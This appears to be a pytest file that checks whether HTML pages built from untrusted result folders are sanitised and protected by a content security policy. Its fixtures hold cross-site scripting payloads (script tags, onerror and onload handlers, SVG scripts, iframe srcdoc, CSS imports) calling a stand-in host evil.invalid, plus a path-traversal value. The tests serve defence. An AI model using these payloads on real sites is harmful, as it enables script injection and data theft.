"""A folder of results from somebody else: its page runs nothing, loads nothing, and shows its texts as texts."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from synthetic_results import figure, made_up

from normless_lab.plots import save_svg
from normless_lab.plots.save import inline_svg
from normless_papers.claims import Check
from normless_papers.pages.site import write_page_of, write_pages_of
from normless_papers.results.reproduction import ResultError
from normless_papers.results.storage import FIGURE, RESULT, folder_of, save

if TYPE_CHECKING:
    from playwright.sync_api import Browser

STEAL = "document.title='stolen';fetch('http://evil.invalid/x')"
TEXT = f'</p></style><script>{STEAL}</script><img src=http://evil.invalid/i onerror="{STEAL}">"\'><b id=evil>'
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"
 onload="{STEAL}"><SCRIPT>{STEAL}</SCRIPT><script>{STEAL}</script>
<h:script xmlns:h="http://www.w3.org/1999/xhtml">{STEAL}</h:script>
<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.{STEAL}&lt;/script&gt;"/>
<image href="http://evil.invalid/a.png" width="9" height="9" onerror="{STEAL}"/>
<style>@import url(http://evil.invalid/a.css); body {{ background: url(http://evil.invalid/b.png) }}</style>
<rect width="9" height="9" style="fill: url(http://evil.invalid/c.svg#p)"/></svg>"""


@pytest.fixture
def visit(browser: Browser) -> Callable[[Path], tuple[Any, list[str], list[str]]]:
    """Opens a page and unfolds it: the page, the addresses that its policy let it ask for, what the browser said."""

    def go(path: Path) -> tuple[Any, list[str], list[str]]:
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        asked: list[str] = []
        said: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("requestfailed", lambda request: request.failure == "csp" and asked.remove(request.url))
        page.on("console", lambda message: said.append(message.text))
        page.goto(path.as_uri())
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        page.wait_for_load_state("networkidle")
        return page, asked, said

    return go


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """One result, all of whose texts and whose figure would run a script."""
    check = Check(TEXT, "holds", {TEXT: 1.0})
    result = replace(
        made_up("fixup/table-1"),
        checks=(check,),
        setup={TEXT: TEXT},
        remarks=(TEXT,),
        figure=TEXT,
        provenance={TEXT: TEXT, "date": TEXT, "machine": TEXT},
    )
    result = replace(result, measured=result.measured.assign(**{TEXT: TEXT}))
    (save(result, None, tmp_path) / FIGURE).write_text(SVG)
    save(made_up("fixup/table-2", error=TEXT), None, tmp_path)
    return tmp_path


def test_nothing_of_a_hostile_result_runs_or_loads(folder: Path, visit: Any) -> None:
    _, path = write_pages_of(folder)
    page, asked, said = visit(path)
    assert page.title() != "stolen"
    assert asked == [path.as_uri()]
    # The sanitized page gives the browser nothing to refuse.
    assert said == []
    assert page.locator("#evil, img, iframe, article script").count() == 0
    assert page.locator("figure svg rect").count() == 1
    assert TEXT in page.locator("article .remark").first.inner_text()


def test_the_policy_alone_holds_too(folder: Path, visit: Any) -> None:
    _, path = write_pages_of(folder)
    text = path.read_text("utf-8")
    path.write_text(text.replace("<main>", f'<main>{SVG}<script>{STEAL}</script><img src=x onerror="{STEAL}">', 1))
    page, asked, said = visit(path)
    assert page.title() != "stolen"
    # The frame of srcdoc is part of the page; what it would run is refused.
    assert {one for one in asked if not one.startswith("about:")} == {path.as_uri()}
    assert any("Content Security Policy" in line for line in said)
    # Our own script does run.
    assert page.get_by_role("status").inner_text() == "2 of 2 artefacts"


def test_a_figure_in_the_page_looks_as_it_was_drawn(tmp_path: Path, visit: Any) -> None:
    axes = figure()
    raw = save_svg(axes, tmp_path / "raw.svg").read_text("utf-8").partition("<svg")
    save(made_up("fixup/table-1"), axes, tmp_path)
    page, _, _ = visit(write_pages_of(tmp_path)[1])
    shown = page.locator("figure svg").evaluate("one => one.outerHTML")
    assert shown.startswith("<svg")
    policy = page.locator("meta[http-equiv]").evaluate("one => one.outerHTML")
    pictures = []
    for name, head, svg in (
        ("raw", "", "<svg" + raw[2]),
        ("page", policy, inline_svg(axes, name="n", description="d")),
    ):
        html = tmp_path / f"{name}.html"
        html.write_text(f"<!doctype html><meta charset=utf-8>{head}<div style='width: 400pt'>{svg}</div>", "utf-8")
        one, _, _ = visit(html)
        one.evaluate("document.querySelector('svg').setAttribute('style', 'width: 400pt; height: auto')")
        pictures.append(one.locator("svg").screenshot())
    raw_pixels, page_pixels = map(_pixels, pictures)
    assert raw_pixels.shape == page_pixels.shape
    # Lengths are rounded to hundredths of a point.
    assert abs(raw_pixels - page_pixels).mean() < 0.5
    assert raw_pixels.std() > 10


def _pixels(png: bytes) -> Any:
    import io

    import numpy as np
    from PIL import Image

    return np.asarray(Image.open(io.BytesIO(png)).convert("L"), dtype=float)


@pytest.mark.parametrize("text", ["", "%PDF", "<svg>", "<svg>" + "<g>" * 500 + "</g>" * 500 + "</svg>"])
def test_a_damaged_figure_is_told_in_a_sentence(tmp_path: Path, text: str) -> None:
    (save(made_up("fixup/table-1"), None, tmp_path) / FIGURE).write_text(text)
    with pytest.raises(ResultError, match=r"figure\.svg cannot be read: Expected the text of an SVG file, got"):
        write_page_of(tmp_path)


def test_a_result_cannot_name_another_folder(tmp_path: Path) -> None:
    save(made_up("fixup/table-1"), None, tmp_path)
    path = folder_of(tmp_path, "fixup/table-1", "smoke") / RESULT
    for change in ({"id": "fixup/table-2"}, {"budget": "../../../.."}):
        path.write_text(json.dumps(made_up("fixup/table-1").to_dict() | change))
        with pytest.raises(ResultError, match=r"expected the result of fixup/table-1 at smoke, got"):
            write_page_of(tmp_path)
